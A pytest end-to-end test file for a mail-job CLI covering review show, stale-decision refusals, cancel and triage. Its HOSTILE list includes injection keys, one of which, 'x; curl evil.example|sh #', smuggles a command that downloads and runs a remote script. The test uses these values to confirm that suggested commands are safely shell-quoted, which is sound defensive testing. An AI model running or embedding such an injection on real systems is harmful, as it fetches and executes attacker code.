"""`review show/check/triage` and `cancel` through the console script: hostile keys in
suggested commands come out shell-quoted, refusals are one sentence with exit 3."""

from __future__ import annotations

import json
import shlex
from typing import Any

import pytest
from tests.e2e.test_cli_audit import escalate

from ledger.application import Ledger

HOSTILE = ["victim-job --as resend #", "x; curl evil.example|sh #"]


def submit(cli: Any, key: str, **extra: Any) -> None:
    job = {"channel": "receipts", "key": key, "to": "a@example.com", "subject": "s", "body": "b"}
    result = cli.run("submit", "--json", "-", stdin=json.dumps({**job, **extra}))
    assert result.code == 0, result.stderr


@pytest.mark.parametrize("key", HOSTILE)
def test_review_show_quotes_the_key_in_every_suggested_command(cli: Any, key: str) -> None:
    submit(cli, key)
    escalate(cli, key)
    shown = cli.run("review", "show", key)
    assert shown.code == 0, shown.stderr
    lines = shown.stdout.splitlines()
    commands = [line.split(": ", 1)[1] for line in lines if ": sendledger" in line]
    assert commands, shown.stdout
    check = shlex.split(commands[0])
    assert check == ["sendledger", "review", "check", key]
    # Each decision on a line of its own, with what it does (docs/review.md "Review").
    resolves = [shlex.split(line) for line in lines if line.startswith("  sendledger review")]
    assert [argv[:5] for argv in resolves] == [["sendledger", "review", "resolve", key, "--as"]] * 3
    assert [argv[5] for argv in resolves] == ["sent", "resend", "abandon"]
    # Each holds for the version shown (docs/review.md "Two people, one job").
    version = str(cli.run("status", key, "--json").json()["version"])
    assert [argv[6:8] for argv in resolves] == [["--expected-version", version]] * 3
    assert resolves[0][8:] == ["--note", "how you know it was sent"]  # no copy found yet
    assert any(line.startswith("why: The provider may or may not") for line in lines), lines


def test_a_decision_review_show_printed_is_refused_once_the_job_moved(cli: Any) -> None:
    """A person reads `review show` and later runs the abandon command it printed;
    meanwhile another person's check was recorded (the job still in review): the command
    holds for the version shown, so it is exit 3 naming what changed, and nothing is
    decided on a job the person did not see."""
    submit(cli, "seen")
    escalate(cli, "seen")
    lines = cli.run("review", "show", "seen").stdout.splitlines()
    [abandon] = [shlex.split(line) for line in lines if "--as abandon" in line]
    with Ledger(f"sqlite:///{cli.root / 'ledger.sqlite'}") as ledger:
        ledger.update(
            "seen",
            lambda j: j.record_check(by="bob", purpose="check", query="q", copies=[],
                                     at=ledger.clock()),
        )  # fmt: skip
    ran = cli.run(*abandon[1:])
    assert ran.code == 3 and "checked by bob" in ran.stderr, ran.stderr
    assert cli.run("status", "seen", "--json").json()["state"] == "review"


def test_cancel_then_exit_3_naming_the_state(cli: Any) -> None:
    submit(cli, "later", send_at="2099-01-01T00:00:00Z")
    done = cli.run("cancel", "later", "--note", "withdrawn", "--json")
    assert done.code == 0, done.stderr
    assert done.json()["state"] == "cancelled"
    again = cli.run("cancel", "later")
    assert again.code == 3 and len(again.error_lines) == 1
    assert "is cancelled: only a job not yet attempted can be cancelled" in again.stderr
    assert cli.run("cancel", "nope").code == 4
    history = cli.run("history", "later", "--json").json()
    assert history[-1]["type"] == "Cancelled" and history[-1]["note"] == "withdrawn"
    listed = cli.run("audit", "--state", "cancelled", "--format", "json").stdout.splitlines()
    assert [json.loads(line)["key"] for line in listed] == ["later"]


def test_triage_without_a_reachable_mailbox_reports_each_job_and_decides_nothing(
    cli: Any,
) -> None:
    for key in ("t1", "t2"):
        submit(cli, key)
        escalate(cli, key)
    result = cli.run("review", "triage", "--dry-run", "--json")
    assert result.code == 0, result.stderr
    assert [(i["key"], i["action"]) for i in result.json()] == [
        ("t1", "search-failed"),
        ("t2", "search-failed"),
    ]
    resend = cli.run("review", "resolve", "t1", "--as", "resend")
    assert resend.code == 1 and "was not resent" in resend.stderr
    assert "nothing was sent" in resend.stderr and len(resend.error_lines) == 1
    assert cli.run("status", "t1", "--json").json()["state"] == "review"
    listed = cli.run("review", "list", "--channel", "receipts", "--json").json()
    assert [row["key"] for row in listed] == ["t1", "t2"]
    assert cli.run("review", "list", "--reason", "duplicate", "--json").json() == []
